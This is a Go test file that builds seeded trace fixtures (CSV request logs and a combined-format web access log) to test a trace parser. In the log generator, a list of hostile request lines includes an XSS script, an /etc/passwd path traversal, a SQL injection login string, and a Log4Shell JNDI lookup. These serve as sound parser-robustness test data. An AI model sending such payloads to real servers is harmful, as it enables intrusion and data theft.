package trace

import (
	"bytes"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/weir-go/weir/internal/dice"
)

// The files in testdata are made here, from a seed: go test ./bench/trace -run TestTestdata -update
var update = flag.Bool("update", false, "write the generated traces to testdata")

const start = 1_767_600_000 // 2026-01-05T08:00:00Z, a Monday

// smallCSV has 400 requests of up to 24 users in 10 minutes: epoch seconds with fractions of any length, costs.
func smallCSV() []byte {
	var b bytes.Buffer
	d := dice.Dice(1)
	b.WriteString("time,key,cost\n")
	at := int64(start) * 1e6 // microseconds
	for range 400 {
		at += int64(d.Roll(3_000_000))
		if d.Roll(4) > 0 { // requests come in clusters
			at -= at % 1000
		}
		s := strings.TrimSuffix(strings.TrimRight(fmt.Sprintf("%d.%06d", at/1e6, at%1e6), "0"), ".")
		fmt.Fprintf(&b, "%s,user-%02d,%d\n", s, d.Skewed(24), 1+d.Skewed(50))
	}
	return b.Bytes()
}

// rfc3339CSV has 200 lines below its header, of up to 12 keys in several zones. Lines 40, 90 and 150 are broken; each tenth
// record comes late.
func rfc3339CSV() []byte {
	var b bytes.Buffer
	d := dice.Dice(2)
	b.WriteString("Key,Method,Time\n")
	zones := []*time.Location{time.UTC, time.FixedZone("", 3600), time.FixedZone("", -8*3600), time.FixedZone("", 5*3600+1800)}
	at := time.Unix(start, 0)
	for line := 2; line <= 201; line++ {
		at = at.Add(time.Duration(d.Roll(2_000_000_000)))
		stamp := at.In(zones[d.Roll(len(zones))])
		if line%10 == 5 {
			stamp = stamp.Add(-5 * time.Second)
		}
		key := fmt.Sprintf("api/%c", 'a'+d.Skewed(12))
		switch line {
		case 40:
			fmt.Fprintf(&b, "\"%s,GET,%s\n", key, stamp.Format(time.RFC3339Nano)) // the quote stays open
		case 90:
			fmt.Fprintf(&b, "%s,GET,%s\n", key, stamp.Format(time.DateTime)) // no zone
		case 150:
			fmt.Fprintf(&b, "%s,%s\n", key, stamp.Format(time.RFC3339Nano)) // a field short
		default:
			fmt.Fprintf(&b, "%s,%s,%s\n", key, []string{"GET", "PUT"}[d.Roll(2)], stamp.Format(time.RFC3339Nano))
		}
	}
	return b.Bytes()
}

// combinedLog has 300 lines of up to 41 made-up clients, one in six of them hostile, and is in order: a server writes whole
// seconds.
func combinedLog() []byte {
	pages := []string{"/", "/index.html", "/about", "/style.css", "/favicon.ico", "/search?q=token+bucket"}
	hostile := []string{
		`GET /?q=\"><script>alert(1)</script> HTTP/1.1" 400 226`,
		`\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 [" 400 150`,
		`GET /cgi-bin/../../../../etc/passwd HTTP/1.0" 404 162`,
		`GET / [01/Jan/1999:00:00:00 +0000] \" 200 1 \"-\" HTTP/1.1" 400 0`,
		`-" 408 -`,
		`" 400 0`,
		`GET /a,time,key,cost\\" 404 19`,
		`POST /login?u=' OR '1'='1 HTTP/1.1" 403 0`,
		`OPTIONS * HTTP/1.0" 200 -`,
		`${jndi:ldap://192.0.2.66/a} \xc3\x28" 501 12`,
	}
	users := []string{"-", "-", "-", "-", "ann", "o [x] y", `bob [01/Jan/1999:00:00:00 +0000] \"GET`}
	agents := []string{"Mozilla/5.0 (X11; Linux x86_64)", "curl/8.9.1", "-", `\"quoted\" [agent] 200`}
	var b bytes.Buffer
	d := dice.Dice(3)
	at := time.Unix(start, 0).In(time.FixedZone("", 3600))
	for range 300 {
		at = at.Add(time.Duration(d.Roll(6)) * time.Second)
		client := fmt.Sprintf("192.0.2.%d", 1+d.Skewed(40))
		if d.Roll(20) == 0 {
			client = "2001:db8::1"
		}
		request := fmt.Sprintf(`GET %s HTTP/1.1" 200 %d`, pages[d.Skewed(len(pages))], 500+d.Roll(20_000))
		if d.Roll(6) == 0 {
			request = hostile[d.Roll(len(hostile))]
		}
		fmt.Fprintf(&b, "%s - %s [%s] \"%s", client, users[d.Roll(len(users))], at.Format("02/Jan/2006:15:04:05 -0700"), request)
		if d.Roll(10) > 0 { // else a Common line
			fmt.Fprintf(&b, ` "-" "%s"`, agents[d.Roll(len(agents))])
		}
		b.WriteByte('\n')
	}
	return b.Bytes()
}

func TestTestdata(t *testing.T) {
	for _, c := range []struct {
		name     string
		make     func() []byte
		format   string
		records  int
		keys     int
		broken   string
		unsorted int
		why      string
	}{
		{"small.csv", smallCSV, CSV, 400, 23, "[]", 0, "epoch seconds, costs, all well"},
		{"rfc3339.csv", rfc3339CSV, CSV, 197, 12, "[40 90 150]", 20, "zones, three broken lines, each tenth late"},
		{"combined.log", combinedLog, Combined, 300, 36, "[]", 0, "hostile requests are records like any other"},
	} {
		name := filepath.Join("testdata", c.name)
		want := c.make()
		if *update {
			if err := os.WriteFile(name, want, 0o644); err != nil {
				t.Fatal(err)
			}
		}
		got, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(got, want) {
			t.Errorf("%s is not what its generator makes: run with -update", name)
		}
		tr, err := ReadFile(name)
		if err != nil {
			t.Error(err)
			continue
		}
		check(t, tr)
		broken := []int{}
		for _, f := range tr.Faults {
			broken = append(broken, f.Line)
		}
		if tr.Format != c.format || len(tr.Records) != c.records || keys(tr) != c.keys ||
			fmt.Sprint(broken) != c.broken || tr.Unsorted != c.unsorted {
			t.Errorf("%s: %v, %d keys, broken %v; want %+v", c.why, tr, keys(tr), broken, c)
		}
		first := time.Unix(0, tr.Records[0].Time).Unix()
		last := time.Unix(0, tr.Records[len(tr.Records)-1].Time).Unix()
		if first < start-10 || last > start+3600 { // none of the forged times of 1999
			t.Errorf("%s: from %d to %d", c.why, first, last)
		}
	}
}

// keys counts the distinct keys.
func keys(tr *Trace) int {
	set := make(map[string]bool)
	for _, r := range tr.Records {
		set[r.Key] = true
	}
	return len(set)
}
